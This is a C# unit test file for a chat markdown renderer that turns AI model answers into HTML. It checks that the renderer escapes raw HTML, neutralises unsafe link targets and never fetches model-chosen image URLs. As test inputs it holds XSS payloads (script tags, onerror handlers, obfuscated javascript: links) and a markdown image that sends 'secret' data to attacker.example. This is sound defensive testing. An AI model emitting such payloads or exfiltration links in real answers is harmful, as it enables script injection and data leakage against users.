using MlxManager.Core.Chat;

namespace MlxManager.Core.Tests.Chat;

public class ChatMarkdownTests
{
    private readonly ChatMarkdown _markdown = new();

    [Fact]
    public void Render_RawHtmlFromTheModel_IsEscaped()
    {
        var html = _markdown.Render("Hello <script>alert('x')</script> and <img src=x onerror=alert(1)>\n\n<div onclick=\"evil()\">block</div>");

        html.ShouldNotContain("<script");
        html.ShouldNotContain("<img");
        html.ShouldNotContain("<div");
        html.ShouldContain("&lt;script&gt;");
    }

    [Theory]
    [InlineData("[click](javascript:alert(1))")]
    [InlineData("[click](JavaScript:alert(1))")]
    [InlineData("[click](java&#x09;script:alert(1))")]
    [InlineData("[click](&#106;avascript:alert(1))")]
    [InlineData("[click](vbscript:msgbox(1))")]
    [InlineData("[click](data:text/html;base64,PHNjcmlwdD4=)")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("[click][r]\n\n[r]: javascript:alert(1)")]
    public void Render_UnsafeLinkTargets_BecomePlainText(string markdown)
    {
        var html = _markdown.Render(markdown);

        html.ShouldNotContain("href=\"javascript", Case.Insensitive);
        html.ShouldNotContain("href=\"vbscript", Case.Insensitive);
        html.ShouldNotContain("href=\"data:", Case.Insensitive);
        html.ShouldNotContain("<a ", Case.Insensitive);
    }

    [Fact]
    public void Render_LinkWithUnsafeTarget_KeepsItsText()
    {
        _markdown.Render("[click here](javascript:alert(1))").ShouldBe("<p>click here</p>\n");
    }

    [Fact]
    public void Render_SafeLinks_OpenInANewTabWithoutReferrer()
    {
        var html = _markdown.Render("See [docs](https://example.com/a?b=1&c=2), <mailto:team@example.com> and www.example.org.");

        html.ShouldContain("<a href=\"https://example.com/a?b=1&amp;c=2\" rel=\"nofollow noopener noreferrer\" target=\"_blank\">docs</a>");
        html.ShouldContain("href=\"mailto:team@example.com\"");
        html.ShouldContain("href=\"http://www.example.org\"");
    }

    [Fact]
    public void Render_Images_BecomeLinks_SoTheBrowserNeverFetchesAModelChosenUrl()
    {
        var html = _markdown.Render("![chart](https://attacker.example/leak?data=secret) ![x](javascript:alert(1))");

        html.ShouldNotContain("<img");
        html.ShouldContain("<a href=\"https://attacker.example/leak?data=secret\"");
        html.ShouldNotContain("javascript:");
    }

    [Fact]
    public void Render_CodeBlocks_CarryTheirLanguage_AndEscapeTheirContent()
    {
        var html = _markdown.Render("```python\nprint('<b>hi</b>')\n```");

        html.ShouldBe("<pre><code class=\"language-python\">print('&lt;b&gt;hi&lt;/b&gt;')\n</code></pre>\n");
    }

    [Fact]
    public void Render_TablesAndTaskLists()
    {
        var html = _markdown.Render("| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo");

        html.ShouldContain("<table>");
        html.ShouldContain("<td>1</td>");
        html.ShouldContain("type=\"checkbox\"");
        html.ShouldContain("checked=\"checked\"");
    }

    [Fact]
    public void Render_UnclosedCodeFence_RendersAsCodeSoFar()
    {
        var html = _markdown.Render("Here:\n```js\nconst x = 1;\nconst y");

        html.ShouldContain("<pre><code class=\"language-js\">const x = 1;\nconst y");
    }

    [Fact]
    public void Render_EveryPrefixOfAGrowingAnswer_RendersWithoutErrorAndStaysSafe()
    {
        const string answer = "# Title\n\nSome **bold** and `code`, a [link](https://example.com) and <b>html</b>.\n\n" +
            "| col | val |\n|-----|-----|\n| a | 1 |\n\n```csharp\nvar s = \"<script>\";\n```\n\n- [ ] task\n1. one\n> quote [x](javascript:alert(1))";

        for (var length = 0; length <= answer.Length; length++)
        {
            var html = _markdown.Render(answer[..length]);
            html.ShouldNotContain("<script");
            html.ShouldNotContain("<b>html");
            html.ShouldNotContain("href=\"javascript", Case.Insensitive);
        }
    }

    [Theory]
    [InlineData("https://example.com", true)]
    [InlineData("http://example.com", true)]
    [InlineData("mailto:a@b.c", true)]
    [InlineData("javascript:alert(1)", false)]
    [InlineData(" javascript:alert(1)", false)]
    [InlineData("java\nscript:alert(1)", false)]
    [InlineData("/relative/path", false)]
    [InlineData("#anchor", false)]
    [InlineData("file:///etc/passwd", false)]
    [InlineData("", false)]
    public void IsSafeUrl_AllowsOnlyWebAndMailLinks(string url, bool safe)
    {
        ChatMarkdown.IsSafeUrl(url).ShouldBe(safe);
    }
}
